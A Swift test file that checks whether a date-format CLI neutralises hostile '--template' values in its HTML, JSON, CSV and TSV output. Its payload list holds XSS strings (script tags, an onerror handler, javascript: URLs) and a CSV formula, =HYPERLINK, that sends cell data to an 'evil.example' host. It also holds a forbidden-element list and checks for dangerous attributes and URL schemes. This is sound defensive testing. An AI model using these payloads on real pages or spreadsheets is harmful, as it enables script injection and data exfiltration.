import Foundation
import TestSupport
import Testing

@testable import DateOrderCLI

/// Hostile `--template` values pushed through `build` into the HTML pages, the JSON and the CSV, and through
/// `list` into TSV, CSV and JSON: no live markup, and every value comes back exactly (CSV: defused).
@Suite("Hostile templates in every output", .serialized)
struct HostileTemplateInjectionTests {
    static let templates = [
        "'<script>alert(1)</script>' y|M*d",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") yMd",
        "+yMd", "-yMMMd", "@yMMMMd",
        "\"><img src=x onerror=alert(1)>yMd",
        "</td></tr></table><iframe src=javascript:alert(1)> d",
        "{{title}}{{raw body}} yM",
        "| ---: | yMd |",
        "```yMd``` `y`",
        "[x](javascript:alert(1)) Md",
        // (A bidi override, U+202E, is refused as input: HostileInputTests. A mark is allowed and must stay text.)
        "yMd\u{200F}gnp.exe",
        "yMd &amp; &#60;script&#62; &lt;",
        "y\\M\\d\\",
        "\u{FEFF}yMd'",
        "<!-- yMd -->",
        "y, M; d \"q\" 'x''y'",
    ]

    /// The arguments that add every hostile template.
    static var arguments: [String] { templates.flatMap { ["--template", $0] } }

    // MARK: HTML

    /// Elements that execute or load something, never acceptable from data.
    static let forbiddenElements: Set<String> = [
        "iframe", "img", "object", "embed", "style", "form", "input", "textarea",
        "base", "frame", "frameset", "applet", "math", "audio", "video", "source",
    ]

    struct Tag { var name: String; var attributes: [String: String] }

    /// Every start tag of an HTML document, with its attributes (a tokenizer enough for this check: the
    /// generated pages have no raw text elements besides an external script).
    static func tags(_ html: String) -> [Tag] {
        var result: [Tag] = []
        let scalars = Array(html.unicodeScalars)
        var index = 0
        func isNameStart(_ s: Unicode.Scalar) -> Bool { ("a"..."z").contains(s) || ("A"..."Z").contains(s) }
        while index < scalars.count {
            guard scalars[index] == "<", index + 1 < scalars.count, isNameStart(scalars[index + 1]) else {
                index += 1; continue
            }
            var end = index + 1
            var quote: Unicode.Scalar?
            while end < scalars.count {
                let s = scalars[end]
                if let q = quote {
                    if s == q { quote = nil }
                } else if s == "\"" || s == "'" {
                    quote = s
                } else if s == ">" {
                    break
                }
                end += 1
            }
            var inner = String(String.UnicodeScalarView(scalars[(index + 1)..<min(end, scalars.count)]))
            if inner.hasSuffix("/") { inner.removeLast() }
            let name = String(inner.prefix { !$0.isWhitespace }).lowercased()
            var attributes: [String: String] = [:]
            let pattern = /([^\s=\/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/
            for match in String(inner.dropFirst(name.count)).matches(of: pattern) {
                var value = ""
                if let double = match.2 {
                    value = String(double)
                } else if let single = match.3 {
                    value = String(single)
                } else if let bare = match.4 {
                    value = String(bare)
                }
                attributes[String(match.1).lowercased()] = value
            }
            result.append(Tag(name: name, attributes: attributes))
            index = end
        }
        return result
    }

    /// The text of an HTML document: tags removed, character references decoded.
    static func text(_ html: String) -> String {
        let withoutTags = html.replacing(/<[^>]*>/.matchingSemantics(.unicodeScalar), with: "")
        var result = ""
        var rest = Substring(withoutTags)
        while let amp = rest.firstIndex(of: "&") {
            result += rest[..<amp]
            rest = rest[amp...]
            if let match = rest.prefixMatch(of: /&(#[0-9]+|#x[0-9A-Fa-f]+|amp|lt|gt|quot|apos|#39);/) {
                let name = String(match.1)
                let scalar: Unicode.Scalar? =
                    switch name {
                    case "amp": "&"
                    case "lt": "<"
                    case "gt": ">"
                    case "quot": "\""
                    case "apos": "'"
                    default:
                        name.hasPrefix("#x")
                            ? UInt32(name.dropFirst(2), radix: 16).flatMap(Unicode.Scalar.init)
                            : UInt32(name.dropFirst()).flatMap(Unicode.Scalar.init)
                    }
                if let scalar { result.unicodeScalars.append(scalar) }
                rest = rest[match.range.upperBound...]
            } else {
                result += "&"
                rest = rest.dropFirst()
            }
        }
        return result + rest
    }

    static func checkNoLiveMarkup(_ html: String, page: String) {
        let tags = tags(html)
        let scripts = tags.filter { $0.name == "script" }
        #expect(
            scripts.count == 1 && scripts.first?.attributes["src"]?.hasSuffix("assets/atlas.js") == true,
            "\(page): \(scripts.map(\.attributes))")
        // The layout's own search field is the one form a page may have: a GET to the index, in the header.
        let forms = tags.filter { $0.name == "form" }
        #expect(
            forms.count == 1 && forms.first?.attributes["class"] == "site-search"
                && forms.first?.attributes["action"]?.hasSuffix("index.html") == true
                && forms.first?.attributes["method"] == "get",
            "\(page): \(forms.map(\.attributes))")
        // Its inputs: the query field, and the hidden go=1 that makes one Enter open a sure match.
        let ownInputs: Set<String> = ["site-search-q", "search-q"]
        let hiddenGo = ["type": "hidden", "name": "go", "value": "1"]
        let searchInputs = tags.filter {
            $0.name == "input" && (ownInputs.contains($0.attributes["id"] ?? "") || $0.attributes == hiddenGo)
        }
        #expect(searchInputs.filter { $0.attributes == hiddenGo }.count <= 1, "\(page): more than one go=1")
        for tag in tags
        where tag.name != "form"
            && !(tag.name == "input" && (ownInputs.contains(tag.attributes["id"] ?? "") || tag.attributes == hiddenGo))
        {
            #expect(!forbiddenElements.contains(tag.name), "\(page): <\(tag.name) \(tag.attributes)>")
            for (name, value) in tag.attributes {
                #expect(
                    !name.hasPrefix("on") && name != "srcdoc" && name != "formaction",
                    "\(page): <\(tag.name) \(name)=…>")
                let lowered = value.lowercased().filter { !$0.isWhitespace }
                #expect(
                    !lowered.hasPrefix("javascript:") && !lowered.hasPrefix("data:") && !lowered.hasPrefix("vbscript:"),
                    "\(page): <\(tag.name) \(name)=\(value)>")
            }
        }
    }

    // MARK: CSV

    /// Parses RFC 4180 CSV (CRLF records, quoted cells with doubled quotes); fails on anything malformed.
    static func parseCSV(_ text: String) throws -> [[String]] {
        struct Malformed: Error, CustomStringConvertible { var description: String }
        var rows: [[String]] = []
        var row: [String] = []
        var cell = ""
        var scalars = Array(text.unicodeScalars)[...]
        var quoted = false
        var cellStarted = false
        while let scalar = scalars.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if scalars.first == "\"" { cell += "\""; scalars.removeFirst() } else { quoted = false }
                } else {
                    cell.unicodeScalars.append(scalar)
                }
                continue
            }
            switch scalar {
            case "\"":
                guard cell.isEmpty, !cellStarted else {
                    throw Malformed(description: "quote inside an unquoted cell after \(cell)")
                }
                quoted = true
                cellStarted = true
            case ",":
                row.append(cell); cell = ""; cellStarted = false
            case "\r":
                guard scalars.popFirst() == "\n" else { throw Malformed(description: "CR without LF") }
                row.append(cell); rows.append(row); row = []; cell = ""; cellStarted = false
            case "\n":
                throw Malformed(description: "bare LF after \(row)")
            default:
                cell.unicodeScalars.append(scalar)
            }
        }
        guard !quoted, cell.isEmpty, row.isEmpty else { throw Malformed(description: "unterminated last record") }
        return rows
    }

    /// What a CSV or TSV cell must hold for `value`: a leading apostrophe before a would-be formula.
    static func defused(_ value: String) -> String {
        guard let first = value.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return value }
        return "'" + value
    }

    /// The fields of a `data/locales.json` record these tests read. (Decoded with `JSONDecoder`:
    /// corelibs-foundation's `JSONSerialization` drops a U+FEFF at the start of a string, a decoder bug.)
    struct Record: Decodable {
        var identifier: String
        var name: String
        var patterns: [String: String]
        var samples: [String: String]
    }

    static func records(_ json: String) throws -> [Record] {
        try JSONDecoder().decode([Record].self, from: Data(json.utf8))
    }

    static func checkCSV(_ csv: String, records: [Record], source: String) throws {
        let rows = try parseCSV(csv)
        #expect(rows.count == records.count + 1, "\(source): \(rows.count) rows for \(records.count) locales")
        let header = try #require(rows.first)
        for template in templates {
            #expect(header.contains("pattern:" + template), "\(source): no column for \(template.debugDescription)")
        }
        let byIdentifier = Dictionary(uniqueKeysWithValues: records.map { ($0.identifier, $0) })
        var checked = 0
        for row in rows.dropFirst() {
            #expect(row.count == header.count, "\(source): row \(row.first ?? "") has \(row.count) cells")
            for cell in row {
                if let first = cell.unicodeScalars.first {
                    #expect(
                        !"=+-@\t\r".unicodeScalars.contains(first), "\(source): live formula \(cell.debugDescription)")
                }
            }
            guard let record = byIdentifier[row[0]] else {
                Issue.record("\(source): \(row[0]) is not in the JSON")
                continue
            }
            for (column, name) in header.enumerated() where name.hasPrefix("pattern:") {
                let template = String(name.dropFirst("pattern:".count))
                #expect(
                    row[column] == defused(record.patterns[template] ?? "-"),
                    "\(source): \(row[0]) \(template.debugDescription)")
                checked += 1
            }
            #expect(row[1] == defused(record.name))
        }
        #expect(checked >= records.count * templates.count)
    }

    static func checkJSON(_ records: [Record], source: String) {
        for record in records {
            for template in templates {
                #expect(
                    record.patterns[template] != nil && record.samples[template] != nil,
                    "\(source): \(record.identifier) lacks \(template.debugDescription)")
            }
        }
    }

    /// The locales the hostile templates go through: left-to-right and right-to-left, Gregorian and not.
    static let locales = ["en_US", "ar", "th_TH", "ja_JP", "fa_IR", "nnh"].flatMap { ["--only", $0] }

    // MARK: tests

    @Test("build: pages show each hostile template as text, with no live markup; JSON and CSV round-trip, CSV defused")
    func build() throws {
        let workspace = try TemporaryFolder(withTemplates: true)
        defer { workspace.remove() }
        let result = CommandRunner.run(
            ["build", "--output", "out", "--locale", "ja_JP@calendar=japanese"] + Self.locales + Self.arguments,
            in: workspace.url
        )
        try #require(result.code == .success, "\(result.err)")
        for page in [
            "locales/en_US.html", "locales/ar.html", "locales/ja_JP-calendar-japanese.html", "locales/th_TH.html",
            "index.html", "conflicts.html",
        ] {
            let html = try #require(workspace.read("out/" + page), "\(page)")
            Self.checkNoLiveMarkup(html, page: page)
            guard page.hasPrefix("locales/") else { continue }
            let text = Self.text(html)
            for template in Self.templates {
                #expect(text.contains(template), "\(page) does not show \(template.debugDescription)")
            }
        }
        let json = try #require(workspace.read("out/data/locales.json"))
        let records = try Self.records(json)
        #expect(records.count == Self.locales.count / 2 + 1)
        Self.checkJSON(records, source: "data/locales.json")
        try Self.checkCSV(
            try #require(workspace.read("out/data/locales.csv")), records: records, source: "data/locales.csv")
        #expect(
            CommandRunner.run(
                ["build", "--check", "--output", "out", "--locale", "ja_JP@calendar=japanese"] + Self.locales
                    + Self.arguments,
                in: workspace.url
            ).code == .success)
    }

    @Test("list and show: JSON, CSV and TSV carry the hostile templates exactly, CSV and TSV defused")
    func list() throws {
        let json = CommandRunner.run(["list", "--format", "json"] + Self.locales + Self.arguments)
        try #require(json.code == .success, "\(json.err)")
        let records = try Self.records(json.out)
        Self.checkJSON(records, source: "list --format json")
        #expect(records.count == Self.locales.count / 2)
        let csv = CommandRunner.run(["list", "--format", "csv"] + Self.locales + Self.arguments)
        try Self.checkCSV(csv.out, records: records, source: "list --format csv")
        let tsv = CommandRunner.run(["list", "--format", "tsv"] + Self.locales + Self.arguments)
        let lines = tsv.out.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
        #expect(lines.count == records.count + 1)
        let width = lines.first?.split(separator: "\t", omittingEmptySubsequences: false).count ?? 0
        for line in lines {
            let cells = line.split(separator: "\t", omittingEmptySubsequences: false)
            #expect(cells.count == width && !line.contains("\r"), "\(line.prefix(60))")
            for cell in cells {
                if let first = cell.unicodeScalars.first { #expect(!"=+-@".unicodeScalars.contains(first), "\(cell)") }
            }
        }
        let show = CommandRunner.run(["show", "en_US", "--json"] + Self.arguments)
        struct Profile: Decodable { struct Format: Decodable { var template: String }; var formats: [Format] }
        let shown = try JSONDecoder().decode(Profile.self, from: Data(show.out.utf8)).formats.map(\.template)
        for template in Self.templates { #expect(shown.contains(template), "\(template.debugDescription)") }
    }
}
